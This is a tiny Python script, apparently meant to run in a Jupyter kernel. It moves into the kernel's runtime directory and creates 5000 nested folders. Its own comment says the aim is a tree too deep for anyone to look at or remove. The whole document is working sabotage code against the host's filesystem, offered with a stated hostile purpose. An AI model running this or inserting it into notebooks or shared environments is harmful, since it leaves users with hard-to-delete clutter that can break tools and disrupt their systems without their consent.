# tries: folders in each other, too deep for whoever wants to look at them or to remove them
from ipykernel.kernelapp import IPKernelApp
import os

os.chdir(os.path.dirname(IPKernelApp.instance().abs_connection_file))
for _ in range(5000):
    os.mkdir("d")
    os.chdir("d")
